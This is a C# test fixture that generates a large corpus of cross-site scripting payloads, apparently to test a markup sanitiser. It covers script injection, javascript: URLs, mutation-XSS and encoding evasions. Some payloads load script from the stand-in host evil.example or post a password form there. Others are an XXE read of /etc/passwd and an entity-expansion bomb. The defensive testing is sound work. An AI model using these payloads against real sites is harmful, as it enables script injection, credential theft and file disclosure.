using System.Globalization;

namespace MetaPrompt.Tests.Abuse;

/// <summary>Markup that would run: elements, handlers, addresses, and what parsers and sanitisers were caught with.</summary>
internal static class CorpusOfMarkup
{
    private const string Run = "alert('evil')";

    private static readonly string[] Handlers =
    [
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontransitionend", "onpointerenter", "ontoggle", "onbegin", "onscroll", "onwheel", "onbeforeinput", "oncut", "onpaste", "ondrag", "onhashchange", "onmessage", "onpageshow", "onresize", "onsubmit",
        "onformdata", "oninvalid", "onselect", "oncontentvisibilityautostatechange", "onbeforetoggle", "onscrollend", "onauxclick", "ONERROR", "oNlOaD",
    ];

    private static readonly string[] Carriers =
        ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "input autofocus", "details open", "math", "marquee", "object data=x", "select autofocus", "textarea autofocus", "button", "form", "a href=x", "style", "link rel=stylesheet href=x", "x tabindex=1 autofocus", "dialog open"];

    private static readonly string[] Breakouts = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</pre>", "</noscript>", "</template>", "&quot;>", "` "];

    private static readonly string[] Whole =
    [
        "<script>alert('evil')</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<script/src=//evil.example/x.js>", "<scr<script>ipt>alert('evil')</scr</script>ipt>", "<script\n>alert('evil')</script\n>", "<script\0>alert('evil')</script>", "<%00script>alert('evil')</script>", "\u003cscript\u003ealert('evil')\u003c/script\u003e",
        "<script type=module>import('//evil.example')</script>", "<script type=importmap>{\"imports\":{\"evil\":\"//evil.example\"}}</script>", "<script>/*</script><!--*/alert('evil')", "<!--<script>alert('evil')-->", "<![CDATA[<script>alert('evil')</script>]]>", "<?xml version=\"1.0\"?><script xmlns=\"http://www.w3.org/1999/xhtml\">alert('evil')</script>",
        "<iframe srcdoc=\"<script>alert('evil')</script>\">", "<iframe src=javascript:alert('evil')>", "<iframe src=//evil.example>", "<frameset><frame src=//evil.example>", "<object data=\"data:text/html,<script>alert('evil')</script>\">", "<embed src=javascript:alert('evil')>", "<applet code=evil>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert('evil')\">",
        "<meta http-equiv=Content-Security-Policy content=\"script-src evil\">", "<link rel=import href=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example';</style>", "<style>*{background:url(//evil.example)}</style>", "<p style=\"background:url(javascript:alert('evil'))\">", "<p style=\"width:expression(alert('evil'))\">", "<div style=\"position:fixed;inset:0\">evil</div>",
        "<form action=//evil.example><input name=password></form>", "<form id=x></form><button form=x formaction=javascript:alert('evil')>", "<input type=image src=x formaction=//evil.example>", "<isindex action=javascript:alert('evil')>", "<a href=\"javascript:alert('evil')\">a</a>", "<a href=\"java\tscript:alert('evil')\">a</a>", "<a href=\" javascript:alert('evil')\">a</a>", "<a href=\"&#106;avascript:alert('evil')\">a</a>",
        "<a href=\"javascript&colon;alert('evil')\">a</a>", "<a href=\"\u0001javascript:alert('evil')\">a</a>", "<a href=\"vbscript:evil\">a</a>", "<a href=\"data:text/html;base64,ZXZpbA==\">evil</a>", "<a href=\"//evil.example\" target=_top>a</a>", "<area href=javascript:alert('evil')>", "<math><a xlink:href=\"javascript:alert('evil')\">a</a></math>", "<svg><a xlink:href=\"javascript:alert('evil')\"><text>a</text></a></svg>",
        "<svg><script>alert('evil')</script></svg>", "<svg><animate onbegin=alert('evil') attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert('evil')>", "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert('evil')</script></svg>#x\">", "<svg><foreignObject><iframe srcdoc=evil></iframe></foreignObject></svg>", "<svg><image href=//evil.example>", "<svg><style>@import '//evil.example'</style>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('evil')\"/>", "<?xml-stylesheet href=\"javascript:alert('evil')\"?>", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;evil</a>", "<!DOCTYPE a [<!ENTITY a \"evil\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><a>&c;</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('evil')&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert('evil')>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert('evil')>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('evil')>", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert('evil')></style></annotation-xml></math>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert('evil')>\">", "<table><td background=javascript:alert('evil')>", "<xmp><img title=\"</xmp><img src=x onerror=alert('evil')>\"></xmp>", "<textarea><img title=\"</textarea><img src=x onerror=alert('evil')>\"></textarea>", "<title><img title=\"</title><img src=x onerror=alert('evil')>\"></title>", "<plaintext>evil", "<listing>&lt;img onerror=alert('evil') src=x>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert('evil')</x:script>", "<img/src=x/onerror=alert('evil')//", "<img src=x:alert(alt) onerror=eval(src) alt=evil>", "<img src=\"x` `<script>alert('evil')</script>\"` `>", "<img \"\"\"><script>alert('evil')</script>\">", "<<script>alert('evil');//<</script>", "<img src=x onerror=\u0061lert('evil')>", "<img src=x onerror=&#97;lert('evil')>", "<img src=x one\nrror=alert('evil')>",
        "<img\u000csrc=x\u000conerror=alert('evil')>", "<img\u000bsrc=x onerror=alert('evil')>", "<img src=x onerror =alert('evil')>", "<img src=x onerror\n=\nalert('evil')>", "<a/onclick=alert('evil')>a", "<b onclick=alert`evil`>a", "<button popovertarget=x>evil</button><x id=x popover onbeforetoggle=alert('evil')>", "<input type=hidden oncontentvisibilityautostatechange=alert('evil') style=content-visibility:auto>",
        "<a id=defaultView href=evil>", "<form id=metaprompt><input name=copy></form>", "<img name=getElementById src=evil>", "<a id=Blazor href=evil>", "<div data-reload data-copy=evil>evil</div>", "<main data-interactive=false>evil</main>", "<form data-swift method=post action=/logout>evil</form>", "<!--Blazor:{\"type\":\"server\",\"descriptor\":\"evil\"}-->", "<blazor-ssr>evil</blazor-ssr>", "<template shadowrootmode=open><script>alert('evil')</script></template>",
        "<portal src=//evil.example>", "<fencedframe src=evil>", "<video><source onerror=alert('evil')>", "<video poster=javascript:alert('evil')>", "<img srcset=\"x 1x, //evil.example 2x\">", "<img src=//evil.example/track.gif>", "<img src=\"data:image/svg+xml,<svg onload=alert('evil')>\">", "<bgsound src=javascript:alert('evil')>", "<layer src=//evil.example>", "<keygen autofocus onfocus=alert('evil')>", "<input onfocus=alert('evil') autofocus", "<div\nonmouseover\n=\nalert('evil')>a",
    ];

    public static IEnumerable<HostileInput> All =>
    [
        .. Whole.Select(text => new HostileInput("markup", text)),
        .. Handlers.SelectMany((handler, i) => Enumerable.Range(0, 4).Select(j =>
            new HostileInput("handler", string.Create(CultureInfo.InvariantCulture, $"{Breakouts[(i + (j * 5)) % Breakouts.Length]}<{Carriers[((i * 3) + j) % Carriers.Length]} {handler}={Run}>")))),
        .. Breakouts.SelectMany(ended => new[] { $"{ended}<script>{Run}</script>", $"{ended} autofocus onfocus={Run} x=\"", $"{ended}<svg/onload={Run}>", $"{ended}{{{{evil}}}}<b>" }).Select(text => new HostileInput("breakout", text)),
        .. Enumerable.Range(1, 12).Select(depth => new HostileInput("nested", string.Concat(Enumerable.Repeat("<b><i><div>", depth * 100)) + "evil")),
    ];
}
